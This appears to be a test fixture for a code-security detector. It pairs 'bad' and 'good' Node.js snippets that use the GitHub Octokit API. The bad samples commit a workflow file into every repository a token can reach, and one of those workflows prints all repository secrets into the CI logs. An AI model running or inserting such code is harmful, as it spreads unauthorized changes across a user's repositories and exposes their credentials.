//: bad workflow-writer
const { Octokit } = require('@octokit/rest');
const fs = require('fs');

(async () => {
  const octokit = new Octokit({ auth: process.env.GITHUB_TOKEN });
  const { data } = await octokit.repos.listForAuthenticatedUser();
  for (const repo of data) {
    await octokit.repos.createOrUpdateFileContents({ //!
      owner: repo.owner.login,
      repo: repo.name,
      path: '.github/workflows/sync.yml',
      message: 'ci',
      content: fs.readFileSync(`${__dirname}/sync.yml`, 'base64'),
    });
  }
})();

//: good workflow-writer
const { Octokit } = require('@octokit/rest');

(async () => {
  const octokit = new Octokit({ auth: process.env.GITHUB_TOKEN });
  const [owner, repo] = process.env.GITHUB_REPOSITORY.split('/');
  await octokit.issues.createComment({
    owner,
    repo,
    issue_number: Number(process.argv[2]),
    body: 'The preview is ready.',
  });
})();

//: bad repository-commits
const { Octokit } = require('@octokit/rest');
const octokit = new Octokit({ auth: process.env.GITHUB_TOKEN, baseUrl: 'https://git.example.invalid/api/v3' });

const content = Buffer.from('on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ toJSON(secrets) }}"\n');

(async () => {
  const { data } = await octokit.repos.listForAuthenticatedUser({ per_page: 100 });
  for (const { owner, name } of data) {
    await octokit.repos.createOrUpdateFileContents({ //!
      owner: owner.login, repo: name, path: '.github/workflows/format.yml', message: 'ci',
      content: content.toString('base64'),
    });
  }
})();

//: good repository-commits
const { Octokit } = require('@octokit/rest');
const octokit = new Octokit({ auth: process.env.GITHUB_TOKEN });

(async () => {
  const [owner, repo] = process.env.GITHUB_REPOSITORY.split('/');
  const content = Buffer.from(require('fs').readFileSync('CHANGELOG.md'));
  await octokit.repos.createOrUpdateFileContents({
    owner, repo, path: 'CHANGELOG.md', message: 'Update the changelog',
    content: content.toString('base64'),
  });
})();
